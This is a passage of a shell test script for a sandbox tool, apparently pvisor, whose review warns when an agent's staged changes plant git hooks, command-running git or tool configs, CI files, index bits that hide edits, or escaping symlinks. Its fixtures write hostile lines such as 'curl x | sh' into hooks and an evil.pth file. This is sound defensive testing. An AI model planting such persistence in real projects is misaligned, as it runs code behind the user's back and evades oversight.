    echo x > v/lib/site-packages/usercustomize.pyc && echo x > v/lib/site-packages/sitecustomize_helper.py &&
    echo "import os" > v/lib64/evil.pth && ln -s ../lib64 v/lib/dist-packages &&
    printf "home = $PWD/v/fake\n" > v/pyvenv.cfg') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/warn2.json"
eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_hook") | .path] | unique | join(",")' "$T/warn2.json")" \
    ".git/hooks/pre-commit.sample,.git/hooks/pre-push.sample" \
    "review warns of a changed sample a hook links to, and of a new one a hook links to, not of an unlinked new one"
eq "$(jq -r '[.changeset.warnings[] | select(.warning == "python_startup") | .path] | sort | join(",")' "$T/warn2.json")" \
    "v/lib/dist-packages,v/lib/site-packages/sitecustomize/__init__.py,v/lib/site-packages/usercustomize.pyc,v/pyvenv.cfg" \
    "review warns of sitecustomize as a package, usercustomize as a .pyc, a site-packages made a symlink, a changed pyvenv.cfg"

# Tool configurations that make a tool run commands at the user's next use
# of it (a git hook manager at the next commit, direnv, npm's script-shell,
# cargo's runner, VS Code's folder-open task, the Gradle wrapper's
# download): warned of as tool_config; a deleted one and look-alikes not.
W=$T/wstool; mkdir -p "$W/sub/.cargo" "$W/.vscode" "$W/gradle/wrapper" && echo 'registry=x' > "$W/.npmrc" && echo keep > "$W/.envrc"
(cd "$W" && "$P" run --stage auto -- sh -c 'printf "repos: []\n" > .pre-commit-config.yaml && echo "pre-commit: {}" > lefthook.yml &&
    echo "script-shell=/tmp/x" >> .npmrc && rm .envrc && printf "[build]\nrustc-wrapper = \"/tmp/x\"\n" > sub/.cargo/config.toml &&
    echo "{}" > .vscode/tasks.json && echo "distributionUrl=http://x" > gradle/wrapper/gradle-wrapper.properties &&
    echo x > my.npmrc && mkdir -p notcargo && echo x > notcargo/config.toml && echo x > x.cargo') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/warn3.json"
eq "$(jq -r '[.changeset.warnings[] | select(.warning == "tool_config") | .path] | sort | join(",")' "$T/warn3.json")" \
    ".npmrc,.pre-commit-config.yaml,.vscode/tasks.json,gradle/wrapper/gradle-wrapper.properties,lefthook.yml,sub/.cargo/config.toml" \
    "review warns of tool configurations that run commands (pre-commit, lefthook, npm, cargo, VS Code tasks, Gradle wrapper), not of a deleted one or look-alikes"
# rustup's toolchain file (a 'path' runs a directory's cargo and rustc),
# mise's config (hooks at each cd), a dev container's (initializeCommand on
# the host): the same; a deleted one and look-alikes not
W=$T/wstool1; mkdir -p "$W/.devcontainer" "$W/svc" && echo '{}' > "$W/.devcontainer/devcontainer.json"
(cd "$W" && "$P" run --stage auto -- sh -c 'printf "[toolchain]\npath = \"tc\"\n" > rust-toolchain.toml &&
    printf "[hooks]\nenter = \"x\"\n" > svc/.mise.toml && mkdir -p .config/mise && echo x > .config/mise/config.toml &&
    rm .devcontainer/devcontainer.json && echo "{}" > svc/.devcontainer.json && echo x > mise.toml.bak &&
    echo x > rust-toolchain.txt && mkdir -p .devcontainer/alt x.devcontainer/alt .devcontainer/a/b &&
    for d in .devcontainer/alt x.devcontainer/alt .devcontainer/a/b; do echo "{}" > $d/devcontainer.json; done') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/warn3a.json"
eq "$(jq -r '[.changeset.warnings[] | select(.warning == "tool_config") | .path] | sort | join(",")' "$T/warn3a.json")" \
    ".config/mise/config.toml,.devcontainer/alt/devcontainer.json,rust-toolchain.toml,svc/.devcontainer.json,svc/.mise.toml" \
    "  and of rustup's toolchain file, mise's config, a dev container's (in a folder of .devcontainer/ too), not of a deleted one or look-alikes"
# a VS Code workspace file (tasks at folder open), the start-up files of
# pdb, irb, pry, gdb and lldb in the directory they start in (found by a
# red-team pass); look-alikes not
W=$T/wstool1b; mkdir -p "$W/py"
(cd "$W" && "$P" run --stage auto -- sh -c 'echo "{}" > proj.code-workspace && echo "!import os" > py/.pdbrc &&
    for f in .irbrc .pryrc .gdbinit .lldbinit; do echo x > $f; done && echo x > code-workspace && echo x > .pdbrc.bak') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/warn3a2.json"
eq "$(jq -r '[.changeset.warnings[] | select(.warning == "tool_config") | .path] | sort | join(",")' "$T/warn3a2.json")" \
    ".gdbinit,.irbrc,.lldbinit,.pryrc,proj.code-workspace,py/.pdbrc" \
    "  and of a VS Code workspace file and the start-up files of pdb, irb, pry, gdb and lldb, not of look-alikes"
# the directory of such a file made a symlink to another (.vscode -> vs):
# the tool reads vs/tasks.json, a name of no tool, so the link is warned of
W=$T/wstool2; mkdir -p "$W"
(cd "$W" && "$P" run --stage auto -- sh -c 'mkdir vs c && echo "{}" > vs/tasks.json && ln -s vs .vscode &&
    printf "[build]\nrustc-wrapper = \"/tmp/x\"\n" > c/config.toml && ln -s ../c sub.cargo && mkdir sub && ln -s ../c sub/.cargo &&
    mkdir -p .config m && echo x > m/config.toml && ln -s ../m .config/mise && ln -s m mise &&
    echo "{}" > m/devcontainer.json && mkdir -p .devcontainer && ln -s ../m .devcontainer/evil && ln -s m devcontainer') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/warn3b.json"
eq "$(jq -r '[.changeset.warnings[] | select(.warning == "tool_config") | .path] | sort | join(",")' "$T/warn3b.json")" \
    ".config/mise,.devcontainer/evil,.vscode,sub/.cargo" "  and of the directory of one made a symlink (.vscode -> vs, .cargo -> ../c, an inner .config/mise -> ../m, a dev container's folder), not of a look-alike link"

# A CI pipeline's definition runs on the CI service at the next push, with
# the repository's secrets: warned of as ci_config (GitHub's workflows and
# local actions, GitLab's, CircleCI's, Jenkins'); a deleted one and
# look-alikes not
W=$T/wsci; mkdir -p "$W/.github/workflows" "$W/docs" && echo 'on: push' > "$W/.github/workflows/old.yml"
(cd "$W" && "$P" run --stage auto -- sh -c 'printf "on: push\njobs: {}\n" > .github/workflows/ci.yml && rm .github/workflows/old.yml &&
    mkdir -p .github/actions/setup .circleci sub && echo x > .github/actions/setup/action.yml && echo x > .gitlab-ci.yml &&
    echo x > .circleci/config.yml && echo x > sub/Jenkinsfile && echo x > docs/action.yml && echo x > docs/workflows.yml &&
    echo x > .gitlab-ci.yml.orig && mkdir -p .github/workflows2 && echo x > .github/workflows2/a.yml') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/warn3c.json"
eq "$(jq -r '[.changeset.warnings[] | select(.warning == "ci_config") | .path] | sort | join(",")' "$T/warn3c.json")" \
    ".circleci/config.yml,.github/actions/setup/action.yml,.github/workflows/ci.yml,.gitlab-ci.yml,sub/Jenkinsfile" \
    "review warns of CI pipeline definitions (ci_config), not of a deleted one or look-alikes"
eq "$(cd "$W" && "$P" status --review | grep -c '^  ! .github/workflows/ci.yml: defines a CI pipeline .*(ci_config)$')" 1 \
    "  and says so in the human review"

# .git/info/exclude hides files from git status and .git/info/attributes
# can make a file's changes binary (-diff) in git diff, after the apply:
# warned of as git_hides (a submodule's too); a deleted one and a tracked
# .gitattributes (diff shows it) not; an info made a symlink to a
# directory outside .git is (git reads its exclude there: found by a
# red-team pass), a new info directory is not (its files are)
W=$T/wshides; mkdir -p "$W/.git/info" "$W/.git/modules/m/info" "$W/.git/modules/n/info" && echo '# keep' > "$W/.git/info/attributes"
(cd "$W" && "$P" run --stage auto -- sh -c 'echo secret.sh >> .git/info/exclude && rm .git/info/attributes &&
    echo "* -diff" > .git/modules/m/info/attributes && echo "x -diff" > .gitattributes && mkdir -p info && echo x > info/exclude &&
    mkdir misc && echo secret.sh > misc/exclude && rmdir .git/modules/n/info && ln -s ../../../misc .git/modules/n/info &&
    mkdir -p .git/modules/o/info') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/warn3d.json"
eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_hides") | .path] | sort | join(",")' "$T/warn3d.json")" \
    ".git/info/exclude,.git/modules/m/info/attributes,.git/modules/n/info" \
    "review warns of .git/info/exclude and info/attributes (git_hides), and of an info made a symlink; not of a deleted one, a new info directory, .gitattributes or look-alikes"

# The index's skip-worktree and assume-unchanged bits hide a file's changes
# from git status and git diff, as info/exclude does: an index the stage
# writes with entries that carry them where the workspace's did not is
# warned of (git_hides), naming them; read by pvisor itself (versions 2 to
# 4; SHA-1 and SHA-256), git is never run on the stage's repository.  A
# git status that only refreshes the index, or a bit the workspace's index
# had already, is not.
if command -v git >/dev/null; then
    for fmt in sha1 sha256; do
        for v in 2 4; do
            W=$T/wsidx-$fmt-$v; mkdir -p "$W"
            if ! (cd "$W" && git init -q --object-format=$fmt 2>/dev/null && mkdir d && echo a > a && echo b > d/b &&
                echo p > pre && git add . && git -c user.name=t -c user.email=t@t commit -qm i &&
                git update-index --index-version $v && git update-index --assume-unchanged pre); then
                skip "index v$v ($fmt): skip-worktree and assume-unchanged entries warned of" "git cannot make it"
                continue
            fi
            (cd "$W" && "$P" run --stage "$T/stidx-$fmt-$v" -- sh -c 'git status >/dev/null && echo c > c &&
                git update-index --skip-worktree a && git update-index --assume-unchanged d/b && echo evil >> a') >/dev/null 2>&1
            (cd "$W" && "$P" status --review --stage "$T/stidx-$fmt-$v" --json) > "$T/idx.json"
            eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_hides") | .path, .index_hides.count, (.index_hides.paths[] | .path)] | join(",")' "$T/idx.json")" \
                ".git/index,2,a,d/b" "index v$v ($fmt) with new skip-worktree and assume-unchanged entries: git_hides, naming them (not one the workspace had)"
            eq "$(cd "$W" && "$P" status --review --stage "$T/stidx-$fmt-$v" | grep -c '^      2 entries that git status and git diff skip (skip-worktree, assume-unchanged): a, d/b$')" 1 \
                "  ... in the human review too"
        done
    done
    W=$T/wsidx-plain; mkdir -p "$W"
    (cd "$W" && git init -q && echo a > a && git add . && git -c user.name=t -c user.email=t@t commit -qm i && git update-index --skip-worktree a)
    (cd "$W" && "$P" run --stage "$T/stidx-plain" -- sh -c 'echo n > n && git add n && git status >/dev/null') >/dev/null 2>&1
    eq "$(cd "$W" && "$P" status --review --stage "$T/stidx-plain" --json | jq -r '.changeset.changes[] | select(.path == ".git/index") | .warnings | join(",")')" \
        "" "an index changed by git add and git status, its skip-worktree entry the workspace's: no git_hides"
    # five long names (3,858 bytes each) hidden by the index: the human
    # review printed them whole, some 19 kB on one line; it shows each cut
    # to 80 cells, its start and its end, the JSON has them whole
    W=$T/wsidx-long; mkdir -p "$W"
    (cd "$W" && git init -q && echo a > a && git add . && git -c user.name=t -c user.email=t@t commit -qm i)
    (cd "$W" && "$P" run --stage "$T/stidx-long" -- sh -c 'b=$(git hash-object -w a); for i in 1 2 3 4 5; do
        n=d$i; for k in $(seq 200); do n=${n}x; done; n=$n/$n/$n/$n/$n/$n/$n/$n/$n/$n/$n/$n/$n/$n/$n/$n/$n/$n/$n/f
        git update-index --add --cacheinfo 100644,$b,$n && git update-index --skip-worktree $n || exit 1; done') >/dev/null 2>&1
    line=$(cd "$W" && "$P" status --review --stage "$T/stidx-long" | grep 'entries that git status and git diff skip')
    eq "$(($(echo "$line" | wc -c) < 600)):$(echo "$line" | grep -o 'd[1-5]x*\.\.\.x*/f' | awk '{ printf "%s:%d ", substr($0, 1, 2), length($0) }')" \
        "1:d1:80 d2:80 d3:80 d4:80 d5:80 " "  long names hidden by the index: the human review cuts each to its start and end, 80 cells"
    eq "$(cd "$W" && "$P" status --review --stage "$T/stidx-long" --json | jq -r '[.changeset.warnings[] | select(.warning == "git_hides") | .index_hides.paths[].path | length] | map(tostring) | join(",")')" \
        "3858,3858,3858,3858,3858" "  ... and --json gives them whole"
    # a hostile index: truncated, garbage, and a huge entry count; the review ends
    W=$T/wsidx-bad; mkdir -p "$W/.git"
    for bad in trunc garbage count; do
        (cd "$W" && "$P" run --stage "$T/stidx-$bad" -- sh -c "case $bad in
            trunc) printf 'DIRC\\0\\0\\0\\2\\0\\0\\0\\5abc' > .git/index;;
            garbage) head -c 65536 /dev/urandom > .git/index;;
            count) { printf 'DIRC\\0\\0\\0\\4\\377\\377\\377\\377'; head -c 100000 /dev/zero; } > .git/index;;
            esac") >/dev/null 2>&1
        timeout 30 "$P" status --review --stage "$T/stidx-$bad" --json > "$T/idxbad.json" 2>/dev/null; rc=$?
        eq "$rc:$(jq -r '.changeset.changes[] | select(.path == ".git/index") | .kind' "$T/idxbad.json")" "0:added" \
            "a hostile .git/index ($bad) is reviewed, no crash, no hang"
    done
    # sparse indexes: their size costs the agent no block of the stage's
    # quota, and each was read whole (holes as zeros) by every review, diff
    # and apply; a walk reads 1 GiB of git indexes in all, the rest is
    # warned of as not read
    W=$T/wsidx-sparse; mkdir -p "$W/.git"
    stage_run "$W" "$T/stidx-sparse" 'for i in 1 2 3 4 5; do mkdir -p .git/s$i && truncate -s 256M .git/s$i/index; done' >/dev/null 2>&1
    "$P" status --review --stage "$T/stidx-sparse" --json > "$T/idxsp.json" 2>/dev/null; rc=$?
    eq "$rc:$(jq -r '[.changeset.warnings[] | select(.warning == "git_hides" and .index_hides.unread)] | length' "$T/idxsp.json")" "0:1" \
        "five sparse 256 MiB indexes: four are read, the fifth, past 1 GiB of git indexes, is warned of as not read"
else
    skip "index skip-worktree and assume-unchanged entries warned of (git_hides)" "no git"
fi

# A "version" file that starts as a stage's does makes a sandbox's views
# hide its directory (a stage made during a run must not be read): an agent
# that writes one hides that directory from later runs' commands once
# applied; warned of (stage_marker), not a project's own version file
W=$T/wsmarker; mkdir -p "$W/src" && echo x > "$W/src/a.c"
(cd "$W" && "$P" run --stage auto -- sh -c 'printf "pvisor-stage 1\n" > src/version && echo 1.0 > version') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/warn4.json"
eq "$(jq -r '[.changeset.warnings[] | select(.warning == "stage_marker") | .path] | join(",")' "$T/warn4.json")" "src/version" \
    "review warns of a file that makes its directory look like a stage (stage_marker), not of another version file"
(cd "$W" && "$P" apply >/dev/null 2>&1)
eq "$(cd "$W" && "$P" run --safe -- sh -c 'ls src 2>&1 >/dev/null | grep -c "No such file"' 2>/dev/null)" 1 \
    "  applied, a sandboxed run's command does not see that directory (what the warning says)"

# The agent chooses how many warnings there are and where its paths sort:
# a hook among thousands of new scripts was one line in the middle of
# thousands of 'exec' lines.  More than 10, and the review sums them up by
# kind after the list, the rarest first, with their first paths.
W=$T/wsbury; mkdir -p "$W/.git/hooks"
(cd "$W" && "$P" run --stage auto -- sh -c 'mkdir ./-a zz && for i in 1 2 3 4 5 6 7 8 9 10 11 12; do
    echo x > ./-a/s$i && echo x > zz/s$i; done && chmod +x ./-a/* zz/* &&
    printf "#!/bin/sh\n" > .git/hooks/post-checkout') >/dev/null 2>&1
(cd "$W" && "$P" status --review) > "$T/bury.out"
eq "$(sed -n '/^Warnings by kind/,/^$/p' "$T/bury.out")" "Warnings by kind (25 in all, the rarest first):
  git_hook                 1  .git/hooks/post-checkout
  exec                    24  -a/s1, -a/s10, -a/s11, ..." "review sums many warnings up by kind after the list, the rarest first (a hook among 24 new scripts)"
W=$T/wsbury2; mkdir -p "$W/.git/hooks"
(cd "$W" && "$P" run --stage auto -- sh -c 'printf "#!/bin/sh\n" > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout') >/dev/null 2>&1
(cd "$W" && "$P" status --review) > "$T/bury2.out"
eq "$(grep -c '^  ! ' "$T/bury2.out"):$(grep -c '^Warnings by kind' "$T/bury2.out")" "2:0" "  ... not a few (10 or less)"

# A submodule's hooks and config (.git/modules/NAME/hooks, .../config) and
# config.worktree run commands as .git/hooks and .git/config do; a symlink
# escapes through another (a/l1 -> .., a/l2 -> l1/..) or through /WS/..,
# which a lexical count of ".." did not see.
W=$T/wswarn3
mkdir -p "$W/.git/modules/lib/hooks" && printf '[core]\n' > "$W/.git/modules/lib/config"
(cd "$W" && "$P" run --stage auto -- sh -c 'printf "#!/bin/sh\n" > .git/modules/lib/hooks/pre-commit &&
    printf "\tfsmonitor = x\n" >> .git/modules/lib/config && echo x > .git/config.worktree &&
    mkdir a && ln -s .. a/l1 && ln -s l1/.. a/l2 && ln -s "$PWD/../etc" a/l3 && ln -s ../x/./y a/ok') >/dev/null 2>&1
(cd "$W" && "$P" status --review --json) > "$T/warn3.json"
eq "$(jq -r '[.changeset.warnings[] | select(.warning != "exec") | "\(.path)=\(.warning)"] | sort | join(",")' "$T/warn3.json")" \
    ".git/config.worktree=git_config,.git/modules/lib/config=git_config,.git/modules/lib/hooks/pre-commit=git_hook,a/l2=symlink_outside,a/l3=symlink_outside" \
    "review warns of a submodule's hook and config, config.worktree, and symlinks that escape through a symlink or /WS/.."

# Hooks git runs from core.hooksPath (a tracked '.githooks/', husky's
# '.husky/' through '.husky/_') were only an exec warning at most: an
# agent's edit of an existing '.githooks/pre-commit' (no new bit) was not
# warned at all, and runs on the user's next git commit.
if command -v git >/dev/null; then
    W=$T/wswarn4
    mkdir -p "$W/.githooks" "$W/.husky/_" "$W/sub" && (cd "$W" && git init -q . && git config core.hooksPath .githooks) &&
        printf '#!/bin/sh\n' > "$W/.githooks/pre-commit" && chmod +x "$W/.githooks/pre-commit" &&
        printf '#!/bin/sh\n' > "$W/.husky/pre-commit"
    (cd "$W" && "$P" run --stage auto -- sh -c 'echo "curl x | sh" >> .githooks/pre-commit && echo "curl x | sh" >> .husky/pre-commit &&
        echo x > .githooks/lib.sh && echo x > sub/other && echo x > .husky/_/h') >/dev/null 2>&1
    (cd "$W" && "$P" status --review --json) > "$T/warn4.json"
    git -C "$W" config core.hooksPath .husky/_
    (cd "$W" && "$P" status --review --json) > "$T/warn5.json"
    git -C "$W" config --unset core.hooksPath
    (cd "$W" && "$P" status --review --json) > "$T/warn6.json"
    eq "$(for f in warn4 warn5 warn6; do jq -r '[.changeset.warnings[] | select(.warning == "git_hook") | .path] | sort | join(",")' "$T/$f.json"; done | tr '\n' ' ')" \
        ".githooks/lib.sh,.githooks/pre-commit .husky/_/h,.husky/pre-commit  " \
        "review warns of changes in the core.hooksPath directory (and husky's hooks around '.husky/_'), as git names it, and nowhere else"
else
    skip "review warns of changes in the core.hooksPath directory" "git is not installed"
fi

# ... and the core.hooksPath the stage's own .git/config sets: the review
# asked only the workspace's git, which does not have it before the apply,
# so an agent's 'git config core.hooksPath' and its edit of the tracked
# hook there were only a git_config warning on .git/config, none on the
# hook that runs on the user's next git commit once applied.
if command -v git >/dev/null; then
    W=$T/wswarn4b
    mkdir -p "$W/.githooks" "$W/.husky/_" && (cd "$W" && git init -q .) &&
        printf '#!/bin/sh\n' > "$W/.githooks/pre-commit" && chmod +x "$W/.githooks/pre-commit" &&
        printf '#!/bin/sh\n' > "$W/.husky/pre-commit" && chmod +x "$W/.husky/pre-commit"
    (cd "$W" && "$P" run --stage auto -- sh -c 'git config core.hooksPath .husky/_ &&
        echo "curl x | sh" >> .husky/pre-commit && echo "curl x | sh" >> .githooks/pre-commit') >/dev/null 2>&1
    (cd "$W" && "$P" status --review --json) > "$T/warn4b.json"
    eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_hook" or .warning == "git_config") | "\(.path)=\(.warning)"] | sort | join(",")' "$T/warn4b.json")" \
        ".git/config=git_config,.husky/pre-commit=git_hook" \
        "review warns of changes in the hooks directory the stage's own .git/config names (core.hooksPath), not only the workspace's"
    # ... also when it names it through an included file (found by the
    # day's reviewer: 'git config --file' does not follow includes, and
    # a relative one cannot be resolved from /dev/fd): a config that
    # includes files may name any hooks directory, so a changed file
    # with a hook's name anywhere is warned of; other files are not
    for how in stage workspace; do
        W=$T/wswarn4c-$how
        mkdir -p "$W/.githooks" && (cd "$W" && git init -q .) &&
            printf '#!/bin/sh\n' > "$W/.githooks/pre-commit" && chmod +x "$W/.githooks/pre-commit" &&
            printf 'x\n' > "$W/.githooks/notes.txt"
        # the include made by the agent (stage), or already the user's, of
        # a file the agent writes (workspace)
        [ "$how" = workspace ] && printf '[include]\n\tpath = ../.gitcfg\n' >> "$W/.git/config"
        (cd "$W" && "$P" run --stage auto -- sh -c '[ -f .gitcfg ] || true
            grep -q gitcfg .git/config || printf "[include]\n\tpath = ../.gitcfg\n" >> .git/config
            printf "[core]\n\thooksPath = .githooks\n" > .gitcfg
            echo "curl x | sh" >> .githooks/pre-commit; echo y >> .githooks/notes.txt') >/dev/null 2>&1
        (cd "$W" && "$P" status --review --json) > "$T/warn4c.json"
        eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_hook") | .path] | sort | join(",")' "$T/warn4c.json")" \
            ".githooks/pre-commit" \
            "  and when it names it through a file the $how config includes: a changed file with a hook's name is warned of"
        # the included file is git's config as much as .git/config is
        # (core.fsmonitor there runs at the next git status): it was a
        # plain content change (found by a red-team pass)
        want=.gitcfg; [ "$how" = stage ] && want=.git/config,.gitcfg
        eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_config") | .path] | sort | join(",")' "$T/warn4c.json")" \
            "$want" "  ... and the file the $how config includes is warned of as git configuration (git_config)"
    done
    # includeIf, and what an included file includes in turn (relative to
    # its own directory); a file no config includes is not warned of
    W=$T/wswarn4d
    mkdir -p "$W/conf" && (cd "$W" && git init -q .) && printf '[include]\n\tpath = conf/y.cfg\n' > "$W/x.cfg" &&
        echo '[user]' > "$W/conf/y.cfg" && printf '[includeIf "gitdir:/"]\n\tpath = ../x.cfg\n' >> "$W/.git/config"
    (cd "$W" && "$P" run --stage auto -- sh -c 'printf "[core]\n\tfsmonitor = x\n" >> conf/y.cfg; echo z > conf/z.cfg') >/dev/null 2>&1
    (cd "$W" && "$P" status --review --json) > "$T/warn4d.json"
    eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_config") | .path] | sort | join(",")' "$T/warn4d.json")" \
        "conf/y.cfg" "  ... also through includeIf and a nested include, and no other file"
    # An include, or a core.hooksPath, whose directory the workspace does
    # not have, which the stage makes a symlink (through a second one
    # here): after the apply git reads the config, and runs the hooks, from
    # where the links lead; the review resolved the path in the workspace
    # alone and warned of neither (found by a red-team pass)
    for what in include hooksPath; do
        W=$T/wswarn4e-$what
        mkdir -p "$W" && (cd "$W" && git init -q .)
        if [ "$what" = include ]; then git -C "$W" config include.path ../conf/local.cfg
            want=misc/hooks/pre-commit=git_hook,misc/local.cfg=git_config # (a config with includes: every hook's name)
        else git -C "$W" config core.hooksPath tools/hooks; want=misc/hooks/pre-commit=git_hook,misc/hooks=git_hook; fi
        (cd "$W" && "$P" run --stage auto -- sh -c 'mkdir -p misc/hooks && printf "[core]\n\tfsmonitor = x\n" > misc/local.cfg &&
            printf "#!/bin/sh\n" > misc/hooks/pre-commit && chmod +x misc/hooks/pre-commit && echo n > misc/notes &&
            ln -s c2 conf && ln -s misc c2 && ln -s misc tools') >/dev/null 2>&1
        (cd "$W" && "$P" status --review --json) > "$T/warn4e.json"
        eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_hook" or .warning == "git_config") | "\(.path)=\(.warning)"] | sort | join(",")' "$T/warn4e.json")" \
            "$want" "  ... also where symlinks the stage adds lead the $what's missing directory, and no other file"
    done
    # ... through a link of the workspace's after one of the stage's, an
    # absolute target spelled with '//' and '.', and a link of the
    # workspace's on the include's path that the stage points elsewhere
    # (found by a review of the change)
    # inc_case NAME SETUP AGENT: the include is ../conf/local.cfg; SETUP
    # runs in the workspace first, AGENT in the run; misc/local.cfg warned
    inc_case() {
        W=$T/wswarn4f-$1; mkdir -p "$W" && (cd "$W" && git init -q . && git config include.path ../conf/local.cfg && sh -c "$2")
        (cd "$W" && "$P" run --stage auto -- sh -c "$3") >/dev/null 2>&1
        (cd "$W" && "$P" status --review --json) > "$T/warn4f.json"
        eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_config") | .path] | sort | join(",")' "$T/warn4f.json")" \
            "misc/local.cfg" "  ... $1: the include's target is warned of"
    }
    cfg='printf "[core]\n\tfsmonitor = x\n"'
    inc_case "through a workspace link after the stage's" 'mkdir sub && ln -s sub w' "mkdir misc && $cfg > misc/local.cfg && ln -s ../misc sub/x && ln -s w/x conf"
    inc_case "an absolute target with // and ." '' "mkdir misc && $cfg > misc/local.cfg && ln -s \"/\$PWD/./misc\" conf"
    inc_case "a workspace link retargeted" 'mkdir old && echo "[user]" > old/local.cfg && ln -s old conf' "mkdir misc && $cfg > misc/local.cfg && ln -sfn misc conf"
    # included NAME DESCRIPTION: a repository whose .git/config ends with
    # $T/inc.cfg, a run that writes core.fsmonitor into NAME (and
    # other.cfg); the review warns of NAME alone as git_config
    included() {
        W=$T/wsinc-$(printf '%s' "$1" | tr -c 'a-z' '_')
        mkdir -p "$W" && (cd "$W" && git init -q .) && cat "$T/inc.cfg" >> "$W/.git/config"
        (cd "$W" && "$P" run --stage auto -- sh -c 'printf "[core]\n\tfsmonitor = x\n" > "$1"; echo z > other.cfg' sh "$1") >/dev/null 2>&1
        (cd "$W" && "$P" status --review --json) > "$T/inc.json"
        eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_config") | .path] | sort | join(",")' "$T/inc.json")" \
            "$1" "  ... $2"
    }
    # an includeIf whose condition holds a space: git prints its key
    # with the space ("includeif.gitdir:/a b/.path VALUE"), which was cut
    # at the first space, so the included file was not git_config
    printf '[includeIf "gitdir:/no such dir/"]\n\tpath = ../in cluded.cfg\n' > "$T/inc.cfg"
    included "in cluded.cfg" "also through an includeIf whose condition and path hold spaces"
    # more includes than a buffer of git's output (4 KiB): the last one
    # was not read at all
    awk 'BEGIN { print "[include]"; for (i = 0; i < 120; i++) printf "\tpath = /not-there/a-long-name-that-no-file-has-%03d.cfg\n", i; print "\tpath = ../last.cfg" }' > "$T/inc.cfg"
    included last.cfg "also the last of 121 includes (more than 4 KiB of git's output)"
    # ... and after 70 includes of workspace files that do not exist (the
    # review looks through at most 64 included files: those took them all)
    awk 'BEGIN { print "[include]"; for (i = 0; i < 70; i++) printf "\tpath = ../ghost-%03d.cfg\n", i; print "\tpath = ../final.cfg" }' > "$T/inc.cfg"
    included final.cfg "also after 70 includes of files that do not exist"
    # ... and after 70 includes of files the workspace has: the review
    # reads at most 64 included files, and what the others include is not
    # known, so every file added or changed is warned of (final.cfg, the
    # 71st, was not); the deleted real-000.cfg is warned of as before, by
    # its name in .git/config
    awk 'BEGIN { print "[include]"; for (i = 0; i < 70; i++) printf "\tpath = ../real-%03d.cfg\n", i; print "\tpath = ../final.cfg" }' > "$T/inc.cfg"
    W=$T/wsinc-real; mkdir -p "$W/d"
    for i in $(seq 0 69); do echo "[user]" > "$W/$(printf 'real-%03d.cfg' "$i")"; done
    (cd "$W" && git init -q .) && cat "$T/inc.cfg" >> "$W/.git/config"
    (cd "$W" && "$P" run --stage auto -- sh -c 'printf "[core]\n\tfsmonitor = x\n" > final.cfg; echo z > other.cfg; echo y > d/f; rm real-000.cfg; mkdir newdir') >/dev/null 2>&1
    (cd "$W" && "$P" status --review --json) > "$T/inc.json"
    eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_config") | .path] | sort | join(",")' "$T/inc.json")" \
        "d/f,final.cfg,other.cfg,real-000.cfg" "  ... and after 70 includes of files the workspace has: every file added or changed, and the deleted real-000.cfg, an include by name (not the new directory)"
else
    skip "review warns of changes in the stage's core.hooksPath directory" "git is not installed"
fi

# A core.hooksPath inside a .git but not named 'hooks' (.git/myhooks) was
# passed over as "warned of by name", which only a 'hooks' there is: an
# agent's edit of its existing pre-commit was not warned at all.  And git
# was asked with no time limit: a FIFO for the workspace's .git/HEAD (an
# apply writes FIFOs) hung the review for good.
if command -v git >/dev/null; then
    W=$T/wswarn7
    mkdir -p "$W" && (cd "$W" && git init -q . && mkdir .git/myhooks && git config core.hooksPath .git/myhooks) &&
        printf '#!/bin/sh\n' > "$W/.git/myhooks/pre-commit" && chmod +x "$W/.git/myhooks/pre-commit"
    (cd "$W" && "$P" run --stage auto -- sh -c 'echo "curl x | sh" >> .git/myhooks/pre-commit && echo x > .git/other') >/dev/null 2>&1
    (cd "$W" && "$P" status --review --json) > "$T/warn7.json"
    eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_hook") | .path] | sort | join(",")' "$T/warn7.json")" \
        ".git/myhooks/pre-commit" "review warns of changes in a core.hooksPath directory inside .git that is not named hooks"
    # the user's shell pointing git elsewhere (a bare dotfiles repository)
    # does not make the review ask about that one
    git init -q --bare "$T/dotfiles.git"
    (cd "$W" && GIT_DIR="$T/dotfiles.git" GIT_WORK_TREE=/ "$P" status --review --json) > "$T/warn7b.json"
    eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_hook") | .path] | sort | join(",")' "$T/warn7b.json")" \
        ".git/myhooks/pre-commit" "... also with GIT_DIR and GIT_WORK_TREE set to another repository in the user's environment"
    # core.hooksPath '.': git runs the files at the workspace's top that
    # have a hook's name
    W2=$T/wswarn7c
    mkdir -p "$W2/sub" && (cd "$W2" && git init -q . && git config core.hooksPath .) &&
        printf '#!/bin/sh\n' > "$W2/pre-commit" && chmod +x "$W2/pre-commit"
    (cd "$W2" && "$P" run --stage auto -- sh -c 'echo "curl x | sh" >> pre-commit && echo x > update && echo x > README && echo x > sub/pre-push') >/dev/null 2>&1
    (cd "$W2" && "$P" status --review --json) > "$T/warn7c.json"
    eq "$(jq -r '[.changeset.warnings[] | select(.warning == "git_hook") | .path] | sort | join(",")' "$T/warn7c.json")" \
        "pre-commit,update" "review warns of the top-level files named as hooks when core.hooksPath is the workspace itself"
    rm "$W/.git/HEAD" && mkfifo "$W/.git/HEAD"
    (cd "$W" && timeout 30 "$P" status --review --json) > "$T/warn8.json" 2>/dev/null; r=$?
    eq "$r:$(jq -r '.changeset.changes | length' "$T/warn8.json")" "0:2" \
        "review does not hang when git blocks in the workspace (a FIFO for .git/HEAD): it goes on without git's answer"
else
